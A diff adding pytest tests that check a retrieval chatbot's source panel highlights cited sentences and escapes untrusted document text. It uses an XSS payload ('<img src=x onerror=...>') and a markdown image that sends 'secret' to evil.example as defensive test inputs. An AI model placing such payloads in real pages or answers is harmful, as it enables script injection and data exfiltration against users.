@@ -1,0 +1,142 @@
+"""The panel shows what an answer rests on, marks exactly the cited words, and lets nothing act as HTML."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import pytest
+
+from apps.answer import harmless, with_links
+from apps.panels import documents_of, level, panel, table
+from apps.passages import excerpt, plain, shortened
+from chatbot.reply import Citation, Reply, Step
+from knowledge_graph import Fact
+from retrieval.document import Chunk, Document, Passage
+
+EVIL = '<img src=x onerror="alert(1)">'
+TEXT = f"# Rules {EVIL}\n\nFirst come first. The late fee is 5 < 6 & final. Nothing {EVIL} else.\n"
+SENTENCE = "The late fee is 5 < 6 & final."
+
+
+class _Store:
+    def __init__(self, *documents: Document) -> None:
+        self.documents = {document.id: document for document in documents}
+
+    def document(self, name: str) -> Document | None:
+        return self.documents.get(name)
+
+    def titles_of(self, names: set[str]) -> dict[str, str]:
+        return {name: self.documents[name].title for name in names if name in self.documents}
+
+
+class _Bot:
+    threshold = 0.4
+
+    def __init__(self, *documents: Document) -> None:
+        self.index = type("Index", (), {"store": _Store(*documents)})()
+
+
+@pytest.fixture
+def bot() -> Any:
+    return _Bot(Document("rules.md", f"Rules {EVIL}", TEXT, "rules.md"))
+
+
+def _cited(**changes: Any) -> Reply:
+    start = TEXT.index(SENTENCE)
+    citation = Citation("rules.md", f"docs/{EVIL}.md", f"Fees {EVIL}", start, start + len(SENTENCE), SENTENCE)
+    fact = Fact(f"fee {EVIL}", "costs_about", "5", ("rules.md#0", "rules.md#1"))
+    chunk = Chunk("rules.md#0", "rules.md", TEXT, 0, len(TEXT), f"Fees {EVIL}")
+    fields: dict[str, Any] = {
+        "text": f"{SENTENCE} [1]",
+        "citations": [citation],
+        "facts": [fact],
+        "confidence": 0.81,
+        "passages": [Passage(chunk, 1.0, {"dense": 0.5})],
+        "trace": [Step("retrieve", 3.2), Step("generate", 1.0)],
+    }
+    return Reply(**{**fields, **changes})
+
+
+def _marked(page: str) -> list[str]:
+    return re.findall(r"<mark>(.*?)</mark>", page, re.DOTALL)
+
+
+def test_the_mark_is_exactly_the_cited_sentence(bot: Any) -> None:
+    page = panel(bot, _cited(), 3)
+    assert _marked(page) == ["The late fee is 5 &lt; 6 &amp; final."]
+    assert "First come first. <mark>" in page
+    assert 'id="source-3-1"' in page
+
+
+def test_nothing_from_documents_acts_as_html(bot: Any) -> None:
+    assert "<img" not in panel(bot, _cited(), 0)
+    assert "<img" not in panel(bot, _cited(citations=[], abstained=True, topics=[EVIL]), 0)
+    assert "<img" not in table([EVIL], [[EVIL, [EVIL], None]])
+
+
+def test_a_missing_document_still_shows_the_quote() -> None:
+    assert _marked(panel(_Bot(), _cited(), 0)) == ["The late fee is 5 &lt; 6 &amp; final."]  # type: ignore[arg-type]
+
+
+def test_confidence_is_said_in_a_word_and_a_percentage(bot: Any) -> None:
+    page = panel(bot, _cited(), 0)
+    assert "81%" in page and ">high<" in page and "width:81%" in page
+    assert [level(c) for c in (0.75, 0.5, 0.49)] == ["high", "medium", "low"]
+
+
+def test_an_abstention_names_itself_and_shows_no_source(bot: Any) -> None:
+    page = panel(bot, _cited(citations=[], facts=[], abstained=True, confidence=0.12), 0)
+    assert "Not in the documents" in page and "12%" in page and "Below 40%" in page
+    assert "source-" not in page
+
+
+def test_a_safety_message_shows_no_confidence(bot: Any) -> None:
+    page = panel(bot, _cited(citations=[], trace=[Step("guard", 1.0)], confidence=1.0), 0)
+    assert "Safety message" in page and "100%" not in page
+
+
+def test_how_it_was_found_names_steps_and_scores(bot: Any) -> None:
+    page = panel(bot, _cited(), 0)
+    assert "meaning 0.50" in page and "retrieve" in page and "4.2" in page
+
+
+def test_a_fact_names_each_document_once() -> None:
+    assert documents_of(Fact("a", "b", "c", ("x#y.md#0", "x#y.md#4", "z.md#1"))) == ["x#y.md", "z.md"]
+
+
+@pytest.mark.parametrize("around", [20, 50])
+def test_an_excerpt_is_cut_between_words(around: int) -> None:
+    text = "alpha beta gamma delta " * 20 + "THE CITED WORDS. " + "epsilon zeta eta theta " * 20
+    start = text.index("THE")
+    shown = excerpt(text, start, start + 16, around)
+    assert _marked(shown) == ["THE CITED WORDS."]
+    assert shown.startswith("… ") and shown.endswith(" …")
+    words = set(re.sub(r"<.?mark>|…", " ", shown).split())
+    assert words <= set(text.split())
+    assert len(shown) < 2 * around + 16 + len("<mark></mark>") + 8
+
+
+def test_an_excerpt_of_text_without_spaces_is_cut_too() -> None:
+    text = "澄" * 400 + "挂失费用为十元。" + "江" * 400
+    assert excerpt(text, 400, 408) == "… " + "澄" * 200 + "<mark>挂失费用为十元。</mark>" + "江" * 200 + " …"
+
+
+def test_offsets_beyond_the_text_do_no_harm() -> None:
+    assert excerpt("short", 2, 99) == "sh<mark>ort</mark>"
+
+
+def test_markdown_signs_are_taken_out_and_words_stay() -> None:
+    assert plain("## Fees\n| Card | Fee |\n|---|---|\n| Gold | **5** |") == "Fees\nCard · Fee\nGold · 5"
+    assert plain("see [the page](http://x.example/a) - now") == "see the page - now"
+    assert shortened("one two three four", 9) == "one two …"
+
+
+def test_citation_numbers_become_links_and_others_stay() -> None:
+    text = with_links("Yes [1]. No [2], [see](x) `a[1]`", 1, 4)
+    assert text == r"Yes [\[1\]](#source-4-1). No [2], [see](x) `a[1]`"
+
+
+def test_answers_keep_markdown_but_lose_html_and_images() -> None:
+    assert harmless("- **a** <b>x</b> & `x < 1`") == "- **a** &lt;b>x&lt;/b> &amp; `x < 1`"
+    assert harmless("![x](http://evil.example/?q=secret)").startswith("!\\[")
